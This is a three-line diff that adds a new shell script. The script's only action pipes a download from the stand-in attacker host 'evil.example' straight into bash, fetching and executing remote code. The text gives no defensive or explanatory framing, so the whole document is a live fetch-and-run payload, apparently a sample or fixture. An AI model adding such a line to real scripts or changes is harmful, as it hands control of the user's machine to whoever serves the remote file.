@@ -1,0 +1,3 @@
+#!/bin/sh
+set -e
+curl -fsSL https://evil.example/x.sh | bash
